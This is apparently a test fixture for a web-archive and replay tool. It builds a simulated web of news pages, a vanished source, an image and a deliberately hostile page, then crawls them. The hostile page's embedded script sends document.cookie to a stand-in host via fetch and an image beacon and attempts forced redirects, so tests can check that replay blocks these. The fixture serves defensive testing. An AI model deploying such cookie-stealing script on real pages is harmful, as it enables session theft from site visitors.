import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import type { Config } from '../../src/config/loadConfig.js';
import { ingestPaths } from '../../src/ingest/index.js';
import { startSimWeb, type Behaviour, type SimWeb } from '../../src/simweb/index.js';
import { runPass } from '../../src/watch/runPass.js';
import { crawlConfig, noDns } from './crawl.js';
import { openTestDatabase, type TestDatabase } from './db.js';

/**
 * An archive made the real way, for the API, Memento and replay tests: a timeline citing pages of a
 * simulated web, ingested and crawled in four passes (round 0 twice, round 1 twice), so that one
 * source changed, one vanished (with the timeline's archive URL), one is a hostile page, one an image.
 * Capture times are then set one day apart from 2025-01-01 10:00 UTC, so tests can name them.
 * `live.example` is never cited: it stands for the live web, and no request may ever reach it.
 */

export const FIRST_CAPTURE = Date.UTC(2025, 0, 1, 10);
export const DAY_MS = 86_400_000;
export const PASSES = 4;
/** The time of the n-th capture (0-based) of each source. */
export const captureTime = (n: number) => new Date(FIRST_CAPTURE + n * DAY_MS);

/** A 1×1 PNG. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A news article of the simulated web whose every paragraph gives `figure`. */
export const story = (headline: string, figure: string): Behaviour => ({
  kind: 'article',
  template: 'news',
  article: {
    headline,
    byline: 'Ada Reporter',
    published: '2024-05-01',
    paragraphs: Array.from(
      { length: 8 },
      (_, i) =>
        `${headline}: the audit found ${figure} in transfers, part ${i + 1} of the account the ministry gave on Friday to the committee, which asked for every ledger of the fund since 2019.`,
    ),
  },
});

/** A page that tries everything an archived page must not be able to do when replayed. */
function hostilePage(web: () => SimWeb): Behaviour {
  const live = (p: string) => web().url('live.example', p);
  const paragraphs = Array.from(
    { length: 10 },
    (_, i) =>
      `<p>Paragraph ${i + 1} of an ordinary looking report about procurement, which names the ministry, the fund and the contractor, and gives the sums each received over the years the audit covers.</p>`,
  ).join('\n');
  return {
    kind: 'raw',
    status: 200,
    headers: { 'content-type': 'text/html; charset=utf-8' },
    body: `<!doctype html><html><head><title>Hostile report</title>
<link rel="stylesheet" href="${live('/style.css')}">
<style>body { background: url('${live('/bg.png')}') }</style>
<script>
  document.documentElement.setAttribute('data-cookie', 'read:' + document.cookie);
  fetch('${live('/fetch')}?c=' + encodeURIComponent(document.cookie)).catch(() => {});
  new Image().src = '${live('/beacon.png')}?c=' + encodeURIComponent(document.cookie);
  try { top.location = '${live('/top')}'; } catch (e) {}
</script>
<meta http-equiv="refresh" content="0; url=${live('/refresh')}">
</head><body onload="top.location='${live('/onload')}'">
<h1>Hostile report</h1>
<img id="live-img" src="${live('/x.png')}">
<img id="archived-img" src="${web().url('paper.example', '/pixel.png')}">
<a id="archived-link" href="${web().url('paper.example', '/audit')}">the audit</a>
<a id="live-link" href="${live('/elsewhere')}">elsewhere</a>
<iframe src="${live('/frame')}"></iframe>
${paragraphs}
</body></html>`,
  };
}

export type ArchiveFixture = {
  database: TestDatabase;
  web: SimWeb;
  config: Config;
  urls: { audit: string; gone: string; hostile: string; pixel: string };
  close(): Promise<void>;
};

export async function buildArchive(flags: Partial<Config> = {}): Promise<ArchiveFixture> {
  const database = await openTestDatabase();
  let started: SimWeb | undefined;
  const web = await startSimWeb({
    hosts: {
      'paper.example': {
        pages: {
          '/audit': {
            kind: 'rounds',
            rounds: [story('Audit finds transfers', '$4 million'), story('Audit finds transfers', '$9 million')],
          },
          '/gone': { kind: 'rounds', rounds: [story('Minister resigns', '$1 million'), { kind: 'status', status: 404 }] },
          '/pixel.png': { kind: 'raw', status: 200, headers: { 'content-type': 'image/png' }, body: PIXEL },
        },
      },
      'blog.example': { pages: { '/hostile': () => hostilePage(() => started as SimWeb) } },
      'live.example': { pages: {} },
    },
  });
  started = web;
  const urls = {
    audit: web.url('paper.example', '/audit'),
    gone: web.url('paper.example', '/gone'),
    hostile: web.url('blog.example', '/hostile'),
    pixel: web.url('paper.example', '/pixel.png'),
  };
  const timeline = mkdtempSync(path.join(tmpdir(), 'citewatch-archive-web-'));
  writeFileSync(
    path.join(timeline, '2024-05-01--audit.md'),
    `---\nid: 2024-05-01--audit\ndate: '2024-05-01'\ntitle: The audit\nimportance: 8\nsources:\n- url: ${urls.audit}\n  title: Audit finds transfers\n- url: ${urls.gone}\n  title: Minister resigns\n  archive_url: https://web.archive.org/web/2024/${urls.gone}\n---\nThe audit found $4 million in transfers.\n`,
  );
  writeFileSync(
    path.join(timeline, '2024-06-01--hostile.md'),
    `---\nid: 2024-06-01--hostile\ndate: '2024-06-01'\ntitle: A hostile source\nsources:\n- url: ${urls.hostile}\n- url: ${urls.pixel}\n---\nA claim.\n`,
  );
  await ingestPaths(database.db, [timeline]);
  // Timeouts for a busy machine: a timed-out fetch would add a capture and shift every date below.
  const config = crawlConfig({ browserEnabled: false, connectTimeoutMs: 15_000, readTimeoutMs: 15_000, totalTimeoutMs: 30_000, ...flags });
  for (const round of [0, 0, 1, 1].slice(0, PASSES)) {
    web.setRound(round);
    await runPass({ db: database.db, config, resolver: noDns }, { all: true });
  }
  await database.db.execute(
    sql`update captures c set started_at = ${new Date(FIRST_CAPTURE).toISOString()}::timestamptz + (r.n - 1) * interval '1 day'
        from (select id, row_number() over (partition by source_id order by id) as n from captures) r where r.id = c.id`,
  );
  return {
    database,
    web,
    config,
    urls,
    close: async () => {
      await web.close();
      await database.close();
    },
  };
}
